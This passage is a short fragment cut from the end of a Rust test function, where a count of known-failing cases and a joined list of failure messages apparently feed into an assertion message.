        KNOWN_FAILING.len(),
        failures.join("\n\n")
    );
}
